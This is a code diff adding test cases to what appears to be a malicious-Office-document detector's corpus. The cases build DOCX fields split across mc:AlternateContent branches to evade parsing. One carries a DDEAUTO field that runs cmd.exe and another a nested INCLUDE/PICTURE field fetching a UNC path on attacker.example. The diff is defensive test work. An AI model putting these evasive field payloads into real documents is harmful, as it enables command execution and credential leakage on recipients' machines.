@@ -1037,6 +1037,7 @@ const officeItems: CorpusItem[] = [
   ...reachingOfficeItems(),
   ...computedLinkOfficeItems(),
   ...queryOfficeItems(),
+  ...alternateContentOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -2555,6 +2556,12 @@ export const ACTIVE_GENUINE: readonly {
           nestedField(' HYPERLINK \\l "', ' REF 书签 ', '" '),
       ),
   },
+  {
+    id: 'docx-text-box-fields-in-both-branches',
+    declared: 'docx',
+    // A text box with a page number, as Word writes it: once in the drawing, once in its VML.
+    bytes: () => documentWith(alternateFields(complexField(' PAGE '), complexField(' PAGE '))),
+  },
 ];
 
 /**
@@ -2702,6 +2709,45 @@ function queryOfficeItems(): CorpusItem[] {
           },
         ]),
       'OOXML_EXTERNAL',
+    ),
+  ];
+}
+
+/** A run holding an mc:AlternateContent whose Choice (Word 2010 on) and Fallback hold `choice` and `fallback`. */
+function alternateFields(choice: string, fallback: string): string {
+  const MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"';
+  const box = (runs: string) => `<w:txbxContent><w:p>${runs}</w:p></w:txbxContent>`;
+  return `<w:r><mc:AlternateContent ${MC}><mc:Choice Requires="wps"><w:drawing>${box(choice)}</w:drawing></mc:Choice><mc:Fallback><w:pict>${box(fallback)}</w:pict></mc:Fallback></mc:AlternateContent></w:r>`;
+}
+
+/**
+ * Field characters in one branch of an mc:AlternateContent, which Word reads while skipping the
+ * other: an `end` only Word 2007 sees ends a field early for this check, so the name a nested
+ * field then computes (`INCLUDE` + `PICTURE`) would go unseen.
+ */
+function alternateContentOfficeItems(): CorpusItem[] {
+  const SPLIT = 'OOXML field split by mc:AlternateContent';
+  const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>';
+  const rest = `${complexField(' QUOTE "INCLUDE" ')}<w:r><w:instrText>PICTURE "\\\\\\\\attacker.example\\\\x.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
+  const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
+  return [
+    item(
+      'docx-field-end-in-fallback',
+      SPLIT,
+      () => documentWith(begin + alternateFields('', end) + rest),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-field-instructions-in-choice',
+      SPLIT,
+      () =>
+        documentWith(
+          begin.replace(' IF ', ' ') +
+            alternateFields('<w:r><w:instrText>DDE</w:instrText></w:r>', '<w:r><w:instrText>X</w:instrText></w:r>') +
+            '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" </w:instrText></w:r>' +
+            end,
+        ),
+      'OOXML_UNREADABLE',
     ),
   ];
 }
